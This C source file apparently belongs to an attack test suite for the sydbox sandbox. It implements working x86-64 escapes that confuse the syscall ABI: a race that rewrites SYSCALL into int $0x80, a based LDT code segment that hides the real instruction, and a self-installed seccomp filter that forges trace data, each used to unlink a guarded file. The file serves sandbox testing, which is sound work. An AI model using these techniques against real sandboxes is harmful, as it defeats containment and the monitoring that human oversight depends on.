/*
 * Two ways into the kernel out of one 64-bit program: SYSCALL with the numbers of x86-64, int $0x80 with those of i386.
 * Where the kernel does not tell which it was (PTRACE_GET_SYSCALL_INFO, Linux 5.3), all else that tells it can be
 * arranged. 10 is unlink for i386, and mprotect for x86-64, which nobody judges.
 */
/* variants: static */
#include "attack.h"

#ifdef __x86_64__
#include <asm/ldt.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>

enum { UNLINK = 10, INT80 = 0x80cd, SYSCALL = 0x050f, RET = 0xc3 };
static volatile uint16_t *code; /* the instruction, and behind it RET */
static char *path;              /* below 4 GiB, and at no page's start: mprotect fails there */

/* What the registers are that the other way would take its arguments from. */
enum likeness { DIFFERENT, ALIKE };

/* Registers as SYSCALL leaves them: RCX is RIP, R11 is EFLAGS. */
static void call_once(enum likeness likeness)
{
	long r = UNLINK;
	if (likeness == ALIKE) {
		__asm__ volatile("push %%rbp\n\t"
				 "lea 2(%[code]), %%rcx\n\t"
				 "mov %%rbx, %%rdi; mov %%rcx, %%rsi; mov %%rcx, %%r10; mov %%rbx, %%r8; xor %%edx, %%edx\n\t"
				 "xor %%ebp, %%ebp; xor %%r9d, %%r9d\n\t"
				 "pushf; pop %%r11\n\t"
				 "call *%[code]\n\t"
				 "pop %%rbp"
				 : "+a"(r)
				 : [code] "r"(code), "b"(path)
				 : "memory", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "cc");
		return;
	}
	__asm__ volatile("lea 2(%[code]), %%rcx\n\t"
			 "xor %%edi, %%edi; xor %%esi, %%esi; xor %%edx, %%edx\n\t"
			 "pushf; pop %%r11\n\t"
			 "call *%[code]"
			 : "+a"(r)
			 : [code] "r"(code), "b"(path)
			 : "memory", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "cc");
}

static void *rewrite(void *unused)
{
	for (;;) {
		*code = INT80;
		for (volatile int i = 0; i < 30; i++)
			;
		*code = SYSCALL;
		for (volatile int i = 0; i < 30; i++)
			;
	}
	return NULL;
}

static long long now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

static char *low_pages(void)
{
	void *at = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	DO(at == MAP_FAILED ? -1 : 0);
	return at;
}

/* A box that does not know may kill for it: then another goes on. */
static void rewritten(enum likeness likeness, int dumpable)
{
	const char *ms = getenv("ATTACK_MS");
	long long end = now_ms() + (ms ? atol(ms) : 1500);
	char *room = low_pages();
	code = (void *)room;
	*code = SYSCALL;
	room[2] = (char)RET;
	path = strcpy(room + 4096 + 8, V("file"));
	while (now_ms() < end && access(V("file"), F_OK) == 0) {
		pid_t pid = DO(fork());
		if (pid == 0) {
			pthread_t thread;
			prctl(PR_SET_DUMPABLE, dumpable);
			if (pthread_create(&thread, NULL, rewrite, NULL) != 0)
				_exit(1);
			while (now_ms() < end && access(V("file"), F_OK) == 0)
				for (int i = 0; i < 100; i++)
					call_once(likeness);
			_exit(0);
		}
		wait_for(pid);
	}
}

/*
 * Code in a 32-bit segment that does not begin at 0: RIP in a register set is an offset in it, and the instruction at
 * that address is another one.
 */
static void based_segment(void)
{
	const unsigned offset = 0x10010;
	unsigned char *room = (void *)low_pages();
	struct user_desc segment = {
		.entry_number = 0, .base_addr = (unsigned)(uintptr_t)room - offset, .limit = 0xfffff, .limit_in_pages = 1,
		.seg_32bit = 1, .contents = MODIFY_LDT_CONTENTS_CODE,
	};
	if (syscall(SYS_modify_ldt, 1, &segment, sizeof segment) != 0)
		impossible("this kernel has no segments of one's own");
	path = strcpy((char *)room + 4096 + 8, V("file"));
	static const unsigned char real[] = {INT80 & 0xff, INT80 >> 8, 0xcb /* retf */};
	static const unsigned char shown[] = {SYSCALL & 0xff, SYSCALL >> 8};
	unsigned char *low = mmap((void *)(offset & ~4095UL), 4096, PROT_READ | PROT_WRITE,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (low == MAP_FAILED)
		impossible("nothing may be mapped so low");
	memcpy(low + (offset & 4095), shown, sizeof shown);
	memcpy(room, real, sizeof real);
	long r;
	__asm__ volatile("push %%rbx; mov %%rsp, %%r15; mov %[stack], %%rsp; mov %[path], %%ebx\n\t"
			 "lea 1f(%%rip), %%r8; mov %%r8d, (%%rsp); movl $0x33, 4(%%rsp)\n\t"
			 "mov %k[code], -16(%%rsp); movl $7, -12(%%rsp)\n\t"
			 "lea 2(%k[code]), %%ecx; xor %%edi, %%edi; xor %%esi, %%esi; xor %%edx, %%edx; mov $10, %%eax\n\t"
			 "pushf; pop %%r11\n\t"
			 "ljmpl *-16(%%rsp)\n"
			 "1: mov %%r15, %%rsp; pop %%rbx"
			 : "=&a"(r)
			 : [stack] "r"(room + 8000), [path] "r"((unsigned)(uintptr_t)path), [code] "r"((uintptr_t)offset)
			 : "memory", "rdi", "rsi", "rcx", "rdx", "r8", "r9", "r10", "r11", "r15", "cc");
	errno = (int)r < 0 ? -(int)r : 0;
	DO((int)r < 0 ? -1 : 0);
}

/* A filter of one's own stops a call of i386 with the data that sydbox's has for calls of x86-64: the newest counts. */
static void forged_data(void)
{
	static struct sock_filter filter[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_I386, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE | 0x5359),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = {sizeof filter / sizeof *filter, filter};
	char *room = low_pages();
	code = (void *)room;
	*code = INT80;
	room[2] = (char)RET;
	path = strcpy(room + 4096 + 8, V("file"));
	DO(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
	DO(prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program));
	call_once(DIFFERENT);
	DO(access(V("file"), F_OK) == 0 ? -1 : 0);
}
#endif

#ifdef __x86_64__
#define ON_X86(what) what
#else
#define ON_X86(what) impossible("not x86-64")
#endif
TRICK(int80_rewritten, "write race") { ON_X86(rewritten(DIFFERENT, 1)); }
TRICK(int80_rewritten_with_like_arguments, "write race") { ON_X86(rewritten(ALIKE, 1)); }
TRICK(int80_rewritten_and_hidden, "write race") { ON_X86(rewritten(DIFFERENT, 0)); }
TRICK(int80_in_a_based_segment, "write") { ON_X86(based_segment()); }
/* Without sydbox nobody hears of the stop, and the call is ENOSYS. */
TRICK(int80_with_forged_data, "write unable") { ON_X86(forged_data()); }
